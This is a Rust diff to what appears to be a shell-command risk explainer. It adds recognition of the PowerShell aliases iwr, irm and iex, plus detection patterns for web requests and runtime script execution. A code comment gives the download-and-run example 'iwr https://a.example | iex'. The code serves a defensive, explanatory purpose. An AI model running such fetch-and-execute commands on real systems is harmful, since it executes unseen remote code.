@@ -107,7 +107,9 @@ pub(super) fn foreign(words: &[Word]) -> Option<Vec<Word>> {
     let cmdlet = first.text.starts_with(|c: char| c.is_ascii_uppercase()) && plain.contains('-');
     let slashed = SLASHED.contains(&plain) && rest.iter().any(|word| word.text.starts_with('/'));
     let known = plain == "remove-item" || table::program(plain).is_some();
-    if !known || !(cmdlet || slashed) {
+    // Short names that nothing else goes by: `iwr https://a.example | iex`.
+    let short = matches!(plain, "iwr" | "irm") || plain == "iex" && rest.is_empty();
+    if !short && !(known && (cmdlet || slashed)) {
         return None;
     }
     let mut known = words.to_vec();
@@ -116,7 +118,7 @@ pub(super) fn foreign(words: &[Word]) -> Option<Vec<Word>> {
             word.text = word.text.strip_prefix("//").map_or(word.text.clone(), |option| format!("/{option}"));
         }
     }
-    names::translate(if cmdlet { Shell::PowerShell } else { Shell::Cmd }, &mut known);
+    names::translate(if cmdlet || short { Shell::PowerShell } else { Shell::Cmd }, &mut known);
     (known != words).then_some(known)
 }
 
@@ -154,7 +156,13 @@ fn computed(command: &Command) -> About {
     let spoken = matches!(command.words.as_slice(), [word] if word.quoted && word.plain);
     let verb = if spoken { "prints" } else { "computes" };
     let mut about = About::new(format!("{verb} {}", sentence::code(&text)), &[Effect::None]);
-    const CALLS: [(&str, &str, Effect); 11] = [
+    const CALLS: [(&str, &str, Effect); 17] = [
+        ("scriptblock]::Create(", "runs text as code", Effect::RunCode),
+        ("InvokeScript(", "runs text as code", Effect::RunCode),
+        ("irm ", "talks to other computers", Effect::Network),
+        ("iwr ", "talks to other computers", Effect::Network),
+        ("Invoke-RestMethod", "talks to other computers", Effect::Network),
+        ("Invoke-WebRequest", "talks to other computers", Effect::Network),
         ("::Delete(", "deletes files", Effect::Delete),
         (".Delete(", "deletes files", Effect::Delete),
         ("::WriteAll", "writes files", Effect::Write),
@@ -171,6 +179,9 @@ fn computed(command: &Command) -> About {
         if text.contains(mark) {
             about.add(says, &[effect]);
         }
+    }
+    if about.clauses.iter().any(|clause| clause == "runs text as code") {
+        about.warn("what runs cannot be seen", Risk::High);
     }
     inline::reaches(&Word { text, ..Word::default() }, &mut about);
     for redirect in &command.redirects {
